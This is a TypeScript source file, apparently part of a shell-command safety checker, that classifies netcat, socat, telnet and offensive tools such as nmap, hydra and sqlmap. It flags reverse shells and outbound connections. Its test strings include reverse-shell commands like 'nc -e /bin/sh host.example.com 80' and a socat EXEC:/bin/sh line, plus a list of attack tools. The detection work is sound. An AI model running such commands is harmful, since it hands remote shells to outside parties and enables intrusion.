import { say } from '../../../../../say';
import { whereIs } from '../../../network';
import type { Invocation } from '../../command';
import { constantOf, describeField } from '../../field';
import { type OptionTable, readOptions } from '../../options';
import type { Shell } from '../../shell';
import { someFlow } from '../../shell';
import type { Family } from '../family';
import { judgeDestinations, judgeSecrets, reaches } from './reaching';

function givesShell(shell: Shell, { program, span }: Invocation): void {
  shell.report.harm('network.reverse-shell', say('{0} gives a shell to whoever answers', program), span);
}

/** Options by which a connection is handed to a program: `-e`, also in a cluster. */
const runs = /^-[a-zA-Z0-9]*[ec](?:$|[/a-z]*sh$)|^--(?:exec|sh-exec|lua-exec)/;

const probing: OptionTable = { flag: '-4 -6 -n -v -z', value: '-w' };

/** Netcat: whether a port of this machine is open may be asked; all else is a connection to anywhere. */
const netcat: Family = {
  programs: ['nc', 'ncat', 'netcat', 'nc.openbsd', 'nc.traditional'],
  match: ['nc -z localhost 3000', 'nc -zv -w 2 127.0.0.1 5432', 'nc -n -v -z 127.0.0.1 3000', 'ncat --version'],
  notMatch: [
    'nc host.example.com 80',
    'nc -l 3000',
    'nc -z host.example.com 80',
    'nc -e /bin/sh host.example.com 80',
    'nc localhost 6379 < a.txt',
    'nc -zx host.example.com:1080 localhost 80',
    'nc -z localhost',
  ],
  judge(shell, invocation, state, context) {
    const { args, span, program } = invocation;
    if (/^(?:--version|--help|-h)$/.test(args.map(describeField).join(' '))) return someFlow;
    const read = readOptions(args, probing);
    const [host, port, ...more] = read.operands.map(constantOf);
    const probes =
      !read.doubtful &&
      read.options.some(({ name }) => name === '-z') &&
      more.length === 0 &&
      host !== undefined &&
      whereIs(host) === 'loopback' &&
      /^\d+(?:-\d+)?$/.test(port ?? '');
    if (probes) {
      shell.report.effect('fetch', { type: 'host', host, port: undefined }, span, context.certainty);
      return { ...someFlow, network: false };
    }
    judgeDestinations(shell, args, 'send', span, context);
    judgeSecrets(shell, invocation, /^-[ipswx]$/, state, context);
    if (args.some((field) => runs.test(constantOf(field) ?? ''))) givesShell(shell, invocation);
    if (args.some((field) => /^-[a-z]*l|^--listen/.test(constantOf(field) ?? '')))
      shell.report.effect('listen', { type: 'program', name: program }, span, context.certainty);
    shell.doubt('network.reach', say('{0} reaches out of the machine', program), span);
    return { ...someFlow, network: true };
  },
};

export const sockets: readonly Family[] = [
  netcat,
  reaches({
    programs: ['socat'],
    fetches: true,
    notMatch: [
      'socat - TCP:host.example.com:80',
      'socat TCP-LISTEN:1,fork EXEC:sh',
      'socat TCP:host.example.com:80 EXEC:/bin/sh',
    ],
    check(shell, invocation) {
      const texts = invocation.args.map(describeField);
      if (
        texts.some((text) => /\b(?:exec|system|shell)\s*:/i.test(text)) &&
        texts.some((text) => /^(?:tcp|udp|openssl|sctp|socks|proxy|vsock|dtls|ssl)[\w-]*:/i.test(text))
      )
        givesShell(shell, invocation);
    },
  }),
  reaches({
    programs: [
      'telnet',
      'ftp',
      'tftp',
      'websocat',
      'wscat',
      'grpcurl',
      'mosquitto_pub',
      'mosquitto_sub',
      'cryptcat',
      'sbd',
      'pwncat',
      'pwncat-cs',
      'chisel',
      'proxychains',
      'proxychains4',
      'torsocks',
    ],
    fetches: true,
    notMatch: [
      'telnet host.example.com 25',
      'ftp example.com',
      'websocat ws://example.com',
      'grpcurl localhost:50051 list',
    ],
  }),
  reaches({
    programs: [
      'nmap',
      'masscan',
      'zmap',
      'rustscan',
      'nikto',
      'sqlmap',
      'hydra',
      'gobuster',
      'ffuf',
      'dirb',
      'wfuzz',
      'tcpdump',
      'tshark',
      'ettercap',
      'arpspoof',
      'bettercap',
      'responder',
      'aircrack-ng',
      'medusa',
      'wpscan',
      'nuclei',
      'httpx',
      'whatweb',
    ],
    fetches: true,
    match: ['nmap --version'],
    notMatch: ['nmap -sS 192.168.1.0/24', 'nmap localhost', 'tcpdump -i any', 'hydra -l root host.example.com ssh'],
  }),
];
